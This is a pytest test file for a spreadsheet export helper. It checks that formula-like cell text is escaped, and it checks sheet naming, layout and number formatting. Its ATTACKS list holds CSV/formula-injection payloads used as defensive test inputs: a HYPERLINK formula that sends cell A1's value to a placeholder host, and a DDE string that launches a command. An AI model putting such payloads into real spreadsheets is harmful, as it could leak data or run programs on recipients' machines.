"""The one helper for every CSV and workbook cell: formula-like text stays text, names and layout read well."""
import io

import pytest
from openpyxl import Workbook, load_workbook

from sikkerby.spreadsheets import append_row, csv_cell, sheet_name, write_table

ATTACKS = ['=HYPERLINK("http://example.invalid/?x="&A1,"Klik")', "=1+1", "+1+1", "-1+1", "@SUM(A1:A2)",
           "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]


@pytest.mark.parametrize("text", ATTACKS)
def test_csv_cells_that_look_like_formulas_get_an_apostrophe(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-5.5", "+3", "-1e3", -5, 5.5, None, "Nørrebro", "a=b"])
def test_csv_cells_that_are_numbers_or_plain_text_are_left_alone(value):
    assert csv_cell(value) == value


def _roundtrip(wb):
    out = io.BytesIO()
    wb.save(out)
    return load_workbook(io.BytesIO(out.getvalue()))


def test_a_workbook_cell_of_formula_like_text_is_stored_as_text_exactly_as_entered():
    wb = Workbook()
    ws = wb.active
    append_row(ws, [*ATTACKS, -27, -11.5, "-5.5"])
    cells = list(_roundtrip(wb).active[1])
    for cell, text in zip(cells, ATTACKS, strict=False):
        # (XML reads a carriage return back as a line feed)
        assert cell.data_type == "s" and cell.value == text.replace("\r", "\n") and cell.quotePrefix, text
    assert [(c.value, c.data_type) for c in cells[len(ATTACKS):]] == [(-27, "n"), (-11.5, "n"), ("-5.5", "s")]


def test_control_characters_that_openpyxl_refuses_do_not_break_the_export():
    wb = Workbook()
    append_row(wb.active, ["før\x00efter\x1b"])
    assert _roundtrip(wb).active["A1"].value == "før\ufffdefter\ufffd"


def test_sheet_names_are_short_unique_and_never_cut_inside_a_word():
    taken = []
    for title in ["1. Anmeldelser fordelt på typer af kriminalitet", "1. Anmeldelser fordelt på typer af kriminalitet",
                  "Tal/grafer: [udkast]?", "Enormtlangtordudenmellemrumoverenogtredivetegn"]:
        taken.append(sheet_name(title, taken))
    assert taken == ["1. Anmeldelser fordelt på typer", "1. Anmeldelser fordelt på (2)",
                     "Tal-grafer- -udkast--", "Enormtlangtordudenmellemrumovere"[:31]]
    assert all(len(n) <= 31 for n in taken)


def test_a_table_sheet_has_its_title_a_frozen_header_an_autofilter_without_the_total_and_fitted_widths():
    wb = Workbook()
    wb.remove(wb.active)
    ws = write_table(wb, name="Ark", title="En meget lang titel der løber hen over de tomme celler til højre for den",
                     notes=["Note"], header=["Betegnelse", "Antal"],
                     rows=[["Kort", 1], ["En betegnelse på fyrre tegn, ja præcis..", -2], ["x" * 200, 3]],
                     footer=[["I alt", 2]])
    assert ws["A1"].font.bold and ws["A3"].value == "Betegnelse"
    assert ws.freeze_panes == "A4" and ws.auto_filter.ref == "A3:B6"  # the total (row 7) is not sorted
    assert ws.column_dimensions["A"].width == 60 and ws["A6"].alignment.wrap_text  # bounded; long text wraps
    assert ws.row_dimensions[6].height == 15 * 4  # 200 characters in a 60-wide column: four lines
    assert ws.column_dimensions["B"].width == len("Antal") + 3


def test_numbers_have_thousands_separators_unless_a_column_says_otherwise_and_sheets_print_one_page_wide():
    wb = Workbook()
    wb.remove(wb.active)
    ws = write_table(wb, name="Grid", title="Grid", header=["Kolonne", "Række", "Antal", "Andel"],
                     rows=[[781, 6159, 10023, -21.1]], number_formats={0: "0", 1: "0"})
    assert [c.number_format for c in ws[3]] == ["0", "0", "#,##0", "#,##0.0"]
    assert ws.print_title_rows == "$2:$2" and ws.page_setup.fitToWidth == 1 and ws.sheet_properties.pageSetUpPr.fitToPage
